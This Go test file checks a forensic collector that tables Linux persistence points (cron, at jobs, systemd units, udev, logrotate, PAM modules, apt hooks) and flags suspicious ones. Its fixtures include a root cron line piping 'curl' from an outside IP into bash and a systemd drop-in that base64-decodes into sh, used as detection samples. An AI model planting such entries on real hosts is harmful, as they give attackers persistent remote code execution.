package collectors_test

import (
	"context"
	"crypto/md5"
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"bellwether/collectors"
	"bellwether/collectors/collectorstest"
	"bellwether/profiles"
)

func TestScheduleIsOneTableOfAllForms(t *testing.T) {
	const tidy = "#!/bin/sh\nset -e\n/dev/shm/.x/run &\n"
	root := collectorstest.Root(t, map[string]string{
		"etc/crontab":                            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n",
		"etc/cron.d/evil":                        "* * * * * root curl -s http://203.0.113.1/x | bash\n",
		"etc/cron.daily/tidy":                    tidy,
		"var/spool/cron/crontabs/www-data":       "@reboot /var/tmp/.cache/a\n",
		"var/spool/cron/atjobs/a0000101b8c7a4":   "#!/bin/sh\n# atrun uid=1000 gid=1000\ncd / || {\n exit 1\n}\necho later\n",
		"etc/systemd/system/x.service":           "[Service]\nUser=www-data\nExecStart=/opt/.x/run\n[Install]\nWantedBy=multi-user.target\n",
		"etc/systemd/system/x.timer":             "[Timer]\nOnCalendar=hourly\n",
		"etc/systemd/system/ok.service":          "[Service]\nExecStart=/usr/sbin/ok\n",
		"etc/systemd/system/ok.service.d/o.conf": "[Service]\nExecStartPre=/bin/sh -c 'echo aGk= | base64 -d | sh'\n",
		"etc/systemd/network/y.network":          "[Match]\n",
		"etc/udev/rules.d/99-x.rules":            `ACTION=="add", RUN+="/bin/x"` + "\n",
		"etc/logrotate.d/a":                      "/var/log/a {\n postrotate\n  /tmp/x\n endscript\n}\n",
		"usr/lib/security/pam_evil.so":           "\x7fELF",
		"etc/apt/apt.conf.d/99x":                 "APT::Update::Pre-Invoke {\"/bin/true\";};\n",
		"var/lib/dpkg/status":                    "Package: cron\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n",
		"var/lib/dpkg/info/cron.list":            "/.\n/etc/crontab\n/etc/cron.daily/tidy\n/etc/cron.d/evil\n",
		"var/lib/dpkg/info/cron.md5sums":         textMD5(tidy) + "  etc/cron.daily/tidy\n" + textMD5("as it came\n") + "  etc/cron.d/evil\n",
	})
	wants := filepath.Join(root, "etc/systemd/system/multi-user.target.wants")
	if err := os.MkdirAll(wants, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/systemd/system/x.service", filepath.Join(wants, "x.service")); err != nil {
		t.Fatal(err)
	}
	old := time.Now().AddDate(0, 0, -60)
	if err := os.Chtimes(filepath.Join(root, "etc/crontab"), old, old); err != nil {
		t.Fatal(err)
	}
	env := collectors.NewEnv(root, quiet())
	sink := &collectorstest.Sink{}
	step := profiles.Step{Name: "state", Collector: profiles.Schedule, Files: []profiles.Role{
		{Name: "crontab", Path: []string{"/etc/crontab", "/etc/cron.d/*"}}, {Name: "cron-script", Path: []string{"/etc/cron.daily/*"}},
		{Name: "user-crontab", Path: []string{"/var/spool/cron/*"}}, {Name: "at-job", Path: []string{"/var/spool/cron/atjobs/*"}},
		{Name: "unit", Path: []string{"/etc/systemd/**"}}, {Name: "udev", Path: []string{"/etc/udev/rules.d/*"}}, {Name: "logrotate", Path: []string{"/etc/logrotate.d/*"}},
		{Name: "pam-module", Path: []string{"/usr/lib/security/*"}}, {Name: "package-hook", Path: []string{"/etc/apt/apt.conf.d/*"}},
	}}
	if err := collectors.Run(context.Background(), &profiles.Plan{Steps: []profiles.Step{step}}, env, sink); err != nil {
		t.Fatal(err)
	}
	table := string(named(t, sink, "state/persistence.txt").Content)
	for _, row := range [][]string{
		{"crontab", "/etc/crontab:2", "17 * * * *", "cd / && run-parts"}, {"user-crontab", "www-data", "@reboot", "/var/tmp/.cache/a"},
		{"at-job", "1000", "a0000101b8c7a4:6", "echo later"}, {"unit ", "www-data", "x.service:3", "/opt/.x/run", "multi-user.target.wants/x.service"},
		{"x.timer:2", "OnCalendar=hourly", "x.service"}, {"unit-link", "-> /etc/systemd/system/x.service"}, {"udev", "RUN+=", "/bin/x"},
		{"logrotate", "postrotate", "/tmp/x"}, {"pam-module", "pam_evil.so"}, {"package-hook", "APT::Update::Pre-Invoke", "/bin/true"},
	} {
		if !hasRow(table, row) {
			t.Errorf("no row with %q in\n%s", row, table)
		}
	}
	if strings.Contains(table, "y.network") || strings.Count(table, "a0000101b8c7a4") != 1 {
		t.Errorf("a file that starts nothing, or one twice:\n%s", table)
	}
	got := rulesFound(t, sink)
	for rule, in := range map[string][]string{
		"cron-odd-command high":      {"203.0.113.1", "/dev/shm/.x/run", "/var/tmp/.cache/a", "postrotate"},
		"unit-odd-exec high":         {"/opt/.x/run", "base64 -d"},
		"persistence-changed medium": {"pam_evil.so"},
		"persistence-changed low":    {"/etc/cron.d/evil", "x.timer", "ok.service", "o.conf", "99-x.rules", "99x", "unit-link", "crontabs/www-data", "x.service", "atjobs", "/etc/logrotate.d/a"},
	} {
		if n := strings.Count(got[rule], "\n"); n != len(in) {
			t.Errorf("%s is found in %d rows, want %d:\n%s", rule, n, len(in), got[rule])
		}
		for _, w := range in {
			if !strings.Contains(got[rule], w) {
				t.Errorf("%s is not found in %q:\n%s", rule, w, got[rule])
			}
		}
	}
}

func hasRow(table string, words []string) bool {
	for line := range strings.Lines(table) {
		all := true
		for _, w := range words {
			all = all && strings.Contains(line, w)
		}
		if all {
			return true
		}
	}
	return false
}

func textMD5(text string) string {
	sum := md5.Sum([]byte(text))
	return hex.EncodeToString(sum[:])
}
